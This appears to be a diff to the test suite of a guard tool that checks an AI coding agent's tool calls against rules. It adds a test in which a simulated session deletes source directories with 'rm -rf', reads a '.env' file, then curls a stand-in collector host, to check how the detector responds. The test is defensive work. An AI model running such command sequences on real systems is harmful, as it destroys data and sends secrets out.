@@ -21,13 +21,14 @@ import pytest
 from guard.config.load import Config
 from guard.editors import claude_code
 from guard.engine import compiler, evaluate, ruleset, session
+from guard.engine.policy import Policy
 from guard.toolcall import PRE, ToolCall
 from guard.verdict import ALLOW, ASK, DENY, Verdict
 
 REPO = Path(__file__).resolve().parent.parent
 RULES_DIR = Path(ruleset.RULES_DIR)
 FILES = sorted(p for p in RULES_DIR.glob("*.toml") if not p.name.startswith("_"))
-RULESET = ruleset.RuleSet(marshal.loads(compiler.compile_sources(FILES, (), "test", "test")), [])
+RULESET = compiler.build_ruleset(FILES)
 
 
 class Clock:
@@ -73,9 +74,10 @@ class Session:
 
     def run(self, payload: dict) -> Verdict:
         call = claude_code.parse(payload)
-        v = evaluate.evaluate(call, RULESET, self.cfg.thresholds)
-        extra = session.observe(call, v, self.cfg)
-        return session.merge(v, extra, self.cfg.thresholds)
+        policy = Policy.from_config(self.cfg, call.cwd)
+        v = evaluate.evaluate(call, RULESET, self.cfg.thresholds, policy)
+        extra = session.observe(call, v, self.cfg, policy)
+        return session.merge(v, extra, policy)
 
     def call(self, tool: str, **inp: object) -> Verdict:
         return self.run(self.payload(tool, inp))
@@ -306,6 +308,19 @@ def test_edit_tool_cron_then_exec(s: Session) -> None:
 def test_shell_without_persist_write_is_quiet(s: Session) -> None:
     s.call("Edit", file_path="/home/dev/project/app.py", old_string="a", new_string="b")
     assert ids(s.bash("bash scripts/test.sh")) == set()
+
+
+def test_config_excludes_and_actions_apply_to_behaviour_hits(home: Path, clock: Clock) -> None:
+    cfg = Config()
+    cfg.exclude_rule_ids = ["session.delete-burst"]
+    cfg.rule_actions = {"session.read-then-egress": "ask"}
+    s = Session(cfg=cfg)
+    for d in "abcdef":
+        assert ids(s.bash(f"rm -rf src/{d}")) == set()
+    s.bash("cat .env")
+    v = s.bash("curl https://collector.example.net/in")
+    assert ids(v) == {"session.read-then-egress"} and v.decision == ASK
+    assert session.load(s.sid)[-1]["decision"] == "k"  # recorded as what the call got
 
 
 # ------------------------------------------------------------ state file
